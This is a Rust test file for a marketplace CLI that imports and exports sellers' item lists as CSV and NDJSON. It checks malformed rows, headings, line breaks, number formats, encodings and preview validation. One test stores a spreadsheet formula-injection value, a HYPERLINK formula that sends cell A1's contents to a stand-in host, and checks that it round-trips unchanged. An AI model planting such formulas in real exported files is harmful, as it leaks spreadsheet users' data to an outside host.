//! Files that sellers import: those of `tests/cases`, each of which represents a kind of public bug report, and dialects.

use std::fs;

use serde_json::{Value, json};
use souk_testkit::terminal::{Ran, Terminal};

use super::{SELLER, market, registered};

/// Returns the path of a case.
fn case(name: &str) -> String {
    format!("{}/tests/cases/{name}", env!("CARGO_MANIFEST_DIR"))
}

/// Asserts that rows were left out, for these reasons.
#[track_caller]
fn assert_refused(ran: &Ran, words: &[&str]) {
    assert_eq!(ran.code, 2, "{ran:?}");
    for word in words {
        assert!(ran.err.contains(word), "{word:?} is missing: {ran:?}");
    }
}

async fn import(alice: &Terminal, file: &str) -> Ran {
    alice.run(&["import", file, "--output", "json"]).await
}

/// Returns the items as they are on the market, by their SKU.
async fn items(alice: &Terminal) -> Vec<Value> {
    let mut items = alice.run(&["items", "--output", "json"]).await.rows();
    items.sort_by_key(|item| item["sku"].to_string());
    items
}

fn shown(item: &Value) -> (&str, i64, i64) {
    let number = |value: &Value| value.as_i64().expect("a number");
    let sku = item["sku"].as_str().expect("a sku");
    (sku, number(&item["unit_price"]["amount_minor"]), number(&item["quantity"]))
}

#[tokio::test(flavor = "multi_thread")]
async fn a_row_of_another_shape_is_refused() {
    let market = market().await;
    let alice = registered(&market).await;
    let ran = alice.run(&["import", &case("shifted-cells.csv"), "--currency", "GBP"]).await;
    assert_refused(&ran, &["line 2", "6 cells where the heading has 5", "quotation marks"]);
    assert_eq!(items(&alice).await, [] as [Value; 0]);

    let ran = import(&alice, &case("padding.csv")).await;
    assert_eq!((ran.code, &ran.json()["created_count"]), (0, &json!(1)), "{ran:?}");
    let ran = import(&alice, &case("blank-rows.csv")).await;
    assert_eq!(
        (ran.code, &ran.json()["created_count"], &ran.json()["rows"]),
        (0, &json!(1), &json!(1)),
        "{ran:?}"
    );
    let listed = items(&alice).await;
    assert_eq!(listed.iter().map(shown).collect::<Vec<_>>(), [("E-1", 150, 1), ("T-9", 100, 5)]);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_unclosed_quotation_mark_takes_no_other_row() {
    let market = market().await;
    let alice = registered(&market).await;
    let ran = alice.run(&["import", &case("unclosed-quote.csv")]).await;
    assert_refused(&ran, &["line 2", "quotation mark", "1 of 2 rows"]);
    let listed = items(&alice).await;
    assert_eq!(listed.iter().map(shown).collect::<Vec<_>>(), [("O-5", 200, 2)]);
    assert_eq!(listed[0]["description"], json!("a chair"));
}

#[tokio::test(flavor = "multi_thread")]
async fn headings_are_used_reported_or_refused() {
    let market = market().await;
    let alice = registered(&market).await;
    let ran = alice.run(&["import", &case("repeated-heading.csv")]).await;
    assert_refused(&ran, &["\"price\" comes twice"]);
    assert_eq!(items(&alice).await, [] as [Value; 0]);
    let ran = import(&alice, &case("unknown-heading.csv")).await;
    assert_eq!((ran.code, &ran.json()["created_count"]), (0, &json!(1)), "{ran:?}");
    let warning = "warning: the column \"descripton\" is not used; did you mean \"description\"?";
    assert_eq!(ran.err.matches(warning).count(), 1, "{ran:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_absent_column_stays_and_an_empty_cell_clears() {
    let market = market().await;
    let alice = registered(&market).await;
    for (file, price, quantity) in [("absent-column-1.csv", 500, 5), ("absent-column-2.csv", 600, 7)] {
        assert_eq!(import(&alice, &case(file)).await.code, 0);
        let listed = items(&alice).await;
        assert_eq!(shown(&listed[0]), ("V-1", price, quantity), "{file}");
        assert_eq!(listed[0]["description"], json!("Hand made in Delft; 30 cm"), "{file}");
    }
    let path = alice.home.path().join("items.ndjson").display().to_string();
    let item = r#""sku":"V-1","name":"Vase blue","category":"home","price":"6 GBP","quantity":7"#;
    fs::write(&path, format!("{{{item}}}\n")).expect("written");
    assert_eq!(import(&alice, &path).await.json()["unchanged_count"], json!(1));
    fs::write(&path, format!("{{{item},\"description\":\"\"}}\n")).expect("written");
    assert_eq!(import(&alice, &path).await.json()["updated_count"], json!(1));
    assert_eq!(items(&alice).await[0]["description"], json!(""));
}

#[tokio::test(flavor = "multi_thread")]
async fn errors_name_the_lines_that_an_editor_shows() {
    let market = market().await;
    let alice = registered(&market).await;
    let content = fs::read_to_string(case("crlf-lines.csv")).expect("a file");
    let path = alice.home.path().join("lines.csv").display().to_string();
    for line_break in ["\r\n", "\n", "\r"] {
        fs::write(&path, content.replace("\r\n", line_break)).expect("written");
        let ran = alice.run(&["import", &path]).await;
        assert_refused(
            &ran,
            &["line 7 (RR-6): price \"bad\" is no amount", "line 8 (RR-1)", "line 2 already"],
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn units_are_read_or_refused_with_the_reason() {
    let market = market().await;
    let alice = registered(&market).await;
    let ran = alice.run(&["import", &case("quantities.csv")]).await;
    assert_refused(
        &ran,
        &[
            "line 3 (N-2): quantity \"1,000\" has a comma",
            "line 4 (N-3): quantity \"1E3\" is in scientific notation",
            "line 5 (N-4): quantity \"-1\" is negative",
        ],
    );
    let listed = items(&alice).await;
    let listed: Vec<_> = listed.iter().map(shown).map(|(sku, _, units)| (sku, units)).collect();
    assert_eq!(listed, [("N-1", 10), ("N-5", 5), ("N-6", 1_000)]);
}

#[tokio::test(flavor = "multi_thread")]
async fn json_lines_may_begin_with_a_byte_order_mark() {
    let market = market().await;
    let alice = registered(&market).await;
    assert_eq!(import(&alice, &case("bom.ndjson")).await.json()["created_count"], json!(1));
    assert_eq!(shown(&items(&alice).await[0]), ("1230000000000", 100, 1));
}

#[tokio::test(flavor = "multi_thread")]
async fn formulas_come_back_from_an_export() {
    let market = market().await;
    let alice = registered(&market).await;
    assert_eq!(import(&alice, &case("formulas.csv")).await.json()["created_count"], json!(2));
    let before = items(&alice).await;
    assert_eq!(before[1]["name"], json!("=HYPERLINK(\"http://example.test/?x=\"&A1,\"click\")"));
    for name in ["out.csv", "out.ndjson"] {
        let path = alice.home.path().join(name).display().to_string();
        assert_eq!(alice.run(&["export", &path]).await.code, 0);
        assert_eq!(import(&alice, &path).await.json()["unchanged_count"], json!(2), "{name}");
    }
    assert_eq!(items(&alice).await, before);
}

#[tokio::test(flavor = "multi_thread")]
async fn the_dialect_of_a_spreadsheet_is_detected_and_shown() {
    let market = market().await;
    let alice = registered(&market).await;
    let text = "sku;name;description;category;price;quantity\r\n\
                A-1;Größe;\"zwei\r\nZeilen\";home;1.234,50;2\r\nA-2;Café;;home;x;2\r\n";
    let path = alice.home.path().join("artikel.csv").display().to_string();
    let utf_16: Vec<u8> = format!("\u{feff}{text}").encode_utf16().flat_map(u16::to_le_bytes).collect();
    fs::write(&path, utf_16).expect("written");
    let flags = ["--locale", "de-DE", "--currency", "EUR"];

    // Needs no market.
    let bare = Terminal::bare(super::SELLER);
    let ran = bare.run(&[&["import", &path, "--preview", "--output", "json"][..], &flags].concat()).await;
    assert_refused(
        &ran,
        &["line 4 (A-2): price \"x\"", "1 of the first 2 rows", "CSV in UTF-16LE", "semicolons"],
    );
    let preview: Value = serde_json::from_str(&ran.out).expect("JSON");
    assert_eq!(
        (&preview["rows"][0]["name"], &preview["rows"][0]["price"]),
        (&json!("Größe"), &json!("1234.50 EUR"))
    );

    let ran = alice.run(&[&["import", &path][..], &flags].concat()).await;
    let summary = "the file was read as CSV in UTF-16LE, cells separated by semicolons, decimal comma";
    assert_refused(&ran, &["line 4 (A-2)", summary]);
    let listed = items(&alice).await;
    assert_eq!(listed[0]["description"], json!("zwei\nZeilen"));
    assert_eq!(shown(&listed[0]), ("A-1", 123_450, 2));
}

#[tokio::test(flavor = "multi_thread")]
async fn line_breaks_of_any_kind_are_accepted_in_descriptions() {
    let market = market().await;
    let alice = registered(&market).await;
    for (line_break, flags) in [("\r\n", ["--name", "Lamp"]), ("\r", ["--name", "Mug"])] {
        let description = format!("two{line_break}lines");
        let rest = ["--category", "home", "--price", "1 GBP", "--quantity", "1", "--output", "json"];
        let sell = [&["sell", "--description", &description][..], &flags, &rest].concat();
        assert_eq!(alice.run(&sell).await.json()["description"], json!("two\nlines"));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_preview_applies_the_rules_of_the_market() {
    let bare = Terminal::bare(SELLER);
    let path = bare.home.path().join("items.csv");
    let long = "x".repeat(201);
    let rows = [
        "sku,name,category,price,quantity",
        "A-1,Lamp,home/light,1 GBP,0",
        &format!("A-2,{long},home/light,1 GBP,1"),
        "A-3,Lamp,Home & Light,1 GBP,1000000001",
        "A-4,Lamp,a/b/c/d/e/f,90000000000000000 GBP,1",
        "A-5,La\u{200b}mp,home,1 GBP,1",
    ];
    fs::write(&path, rows.join("\n")).expect("written");
    let ran = bare.run(&["import", &path.display().to_string(), "--preview", "--output", "json"]).await;
    assert_refused(
        &ran,
        &[
            "line 3 (A-2): name is longer than 200 characters",
            "line 4 (A-3): category is not a lower-case path",
            "; quantity is 1000000001",
            "line 5 (A-4): category is not",
            "; price is more than",
            "line 6 (A-5): name holds the invisible character U+200B",
            "4 of the first 5 rows",
        ],
    );
    let preview: Value = serde_json::from_str(&ran.out).expect("JSON");
    assert_eq!(preview["rows"].as_array().map(Vec::len), Some(1), "{ran:?}");
}
